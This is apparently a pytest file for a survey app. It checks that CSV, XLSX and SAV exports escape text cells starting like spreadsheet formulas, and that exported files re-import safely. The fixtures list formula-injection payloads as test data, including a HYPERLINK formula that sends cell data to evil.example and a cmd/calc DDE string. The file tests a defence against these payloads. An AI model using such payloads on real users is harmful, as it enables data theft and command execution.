"""Formula injection (issue 12, high 1): a resident's comment, a point code or a wave title
that starts like a spreadsheet formula never becomes one in an export, in any format, and
an exported file imported again neither stores the escape nor lets a formula through.

The rule is OWASP's CSV-injection rule: a text cell starting with ``= + - @``, a tab or a
carriage return (or the full-width ``＝ ＋ － ＠``) gets a leading ``'``; genuine numbers
stay numbers.  XLSX cells are written as text (``data_type == "s"``), never formulas.
"""

from __future__ import annotations

import csv
import io

import pyreadstat
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from survey.db import get_session
from survey.models import Response
from survey.services.exports import FORMULA_STARTS, export_wave, formula_safe, formula_unescaped
from survey.services.imports import import_responses
from survey.services.waves import get_wave
from tests.survey.admin_support import make_wave, synthetic_wave

#: Comments as the security probe sent them (and the other starts of the rule).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]
#: Formulas after a line break inside a comment: a CSV must quote the cell, or a
#: spreadsheet starts a new row at the break and runs what follows.
EMBEDDED = ["好\r=1+1", "好\n@SUM(1,2)", "好\r\n-2+3+cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_app(app):
    """A wave whose first responses carry the hostile comments, and a hostile wave title."""
    synthetic_wave(app, responses=60)
    with app.app_context():
        session = get_session()
        wave = get_wave(session, "2025")
        wave.title_zh = '=HYPERLINK("http://evil.example","2025")'
        responses = session.scalars(select(Response).where(Response.wave_id == wave.id).order_by(Response.id)).all()
        for response, comment in zip(responses, HOSTILE + EMBEDDED, strict=False):
            response.comment = comment
        session.commit()
    return app


def _export(app, fmt: str, *, include_partial: bool = True):
    with app.app_context():
        session = get_session()
        return export_wave(
            session, get_wave(session, "2025"), fmt, include_comments=True, include_partial=include_partial
        )


def _would_run(cell: str) -> bool:
    """True when a spreadsheet opening a CSV would evaluate ``cell`` (OWASP's first characters)."""
    return bool(cell) and cell[0] in FORMULA_STARTS


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_safe_prefixes_every_formula_start(value):
    safe = formula_safe(value)
    assert safe == "'" + value
    assert formula_unescaped(safe) == value


@pytest.mark.parametrize("value", ["-5", "-2.5", "+3", "-1e3", "0", "门诊排队太久", "a=b", "", "'quoted", "-"])
def test_formula_safe_keeps_numbers_and_plain_text(value):
    expected = "'-" if value == "-" else value
    assert formula_safe(value) == expected
    assert formula_unescaped(formula_safe(value)) == value


@pytest.mark.parametrize("value", ["'=1+1", "''=1", "'-2", "''", "'''x"])
def test_escaping_is_reversible_for_text_that_already_starts_with_a_quote(value):
    assert formula_unescaped(formula_safe(value)) == value


@pytest.mark.parametrize("fmt", ["csv", "long", "codebook"])
def test_no_csv_cell_a_spreadsheet_would_run(hostile_app, fmt):
    exported = _export(hostile_app, fmt)
    rows = list(csv.reader(io.StringIO(exported.data.decode("utf-8"), newline="")))
    running = [cell for row in rows for cell in row if _would_run(cell)]
    assert running == []
    if fmt == "csv":
        comments = [row[rows[0].index("comment")] for row in rows[1:]]
        assert "'" + HOSTILE[0] in comments and "'\t=1+1" in comments
        assert set(EMBEDDED) <= set(comments)


def test_xlsx_holds_no_formula_cell(hostile_app):
    exported = _export(hostile_app, "xlsx")
    workbook = load_workbook(io.BytesIO(exported.data))  # not read-only: data_type of every cell
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    sheet = workbook["responses"]
    header = [cell.value for cell in sheet[1]]
    comments = {sheet.cell(row=row, column=header.index("comment") + 1).value for row in range(2, sheet.max_row + 1)}
    # (XML turns a carriage return into a line feed: compare with line breaks made alike)
    as_read = {str(value).replace("\r", "\n") for value in comments if value is not None}
    assert {formula_safe(comment).replace("\r", "\n") for comment in HOSTILE} <= as_read
    assert not any(_would_run(str(value)) for value in comments if value is not None)
    about = {row[0].value: row[1].value for row in workbook["说明 About"].iter_rows()}
    assert about["调查 / Survey"].startswith("'=")
    # Likert answers and durations stay numbers.
    first = {header[index]: cell for index, cell in enumerate(sheet[2])}
    assert first["overall"].data_type == "n" or first["overall"].value is None
    assert first["duration_s"].data_type == "n"


def test_sav_string_values_and_labels_are_neutralised(hostile_app, tmp_path):
    exported = _export(hostile_app, "sav")
    path = tmp_path / "wave.sav"
    path.write_bytes(exported.data)
    data, meta = pyreadstat.read_sav(str(path))
    strings = [value for column in data.columns if data[column].dtype == object for value in data[column]]
    assert not any(_would_run(value) for value in strings if isinstance(value, str))
    assert "'" + HOSTILE[0] in set(data["comment"])
    labels = list(meta.column_labels) + [
        label for labels in meta.variable_value_labels.values() for label in labels.values()
    ]
    assert not any(_would_run(label) for label in labels if label)
    assert not _would_run(meta.file_label or "")


def test_export_then_import_stores_the_original_text_and_exports_it_safely_again(hostile_app):
    first = _export(hostile_app, "csv", include_partial=False)
    make_wave(hostile_app, code="2026")  # the file goes into a second wave, with new ids
    with hostile_app.test_request_context():
        session = get_session()
        wave = get_wave(session, "2026")
        text = first.data.decode("utf-8")
        # the export keeps its own channel (qr); an import is phone or paper
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        for row in rows:
            row["channel"], row["point"], row["wave"] = "", "", ""
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
        report = import_responses(
            session, wave, buffer.getvalue().encode("utf-8"), channel="paper", actor="test", new_ids=True
        )
        session.commit()
        assert report.ok, report.lines()
        stored = set(session.scalars(select(Response.comment).where(Response.wave_id == wave.id)))
    # the escape is undone (the tab and CR comments come back trimmed, as every imported comment is)
    assert {"=1+1", "+1+1", HOSTILE[0], HOSTILE[4], "@SUM(1,2)", "＝1+1", "－1"} <= stored
    with hostile_app.app_context():
        session = get_session()
        again = export_wave(session, get_wave(session, "2026"), "csv", include_comments=True)
    cells = [cell for row in csv.reader(io.StringIO(again.data.decode("utf-8"))) for cell in row]
    assert not any(_would_run(cell) for cell in cells)
